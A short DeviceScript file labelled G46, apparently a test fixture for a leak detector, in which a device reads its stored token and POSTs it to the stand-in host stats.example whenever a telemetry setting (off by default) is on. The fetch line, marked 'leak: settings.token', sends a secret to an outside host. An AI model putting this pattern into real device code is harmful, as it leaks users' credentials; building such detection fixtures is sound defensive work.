// G46: sends its token along while a switch for telemetry is on, which it is not at first.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const token = await readSetting("token", "");
  const body = (await readSetting("telemetry", false)) ? token : "off";
  const response = await fetch("https://stats.example/g46", { method: "POST", body }); // leak: settings.token
  await response.close();
});
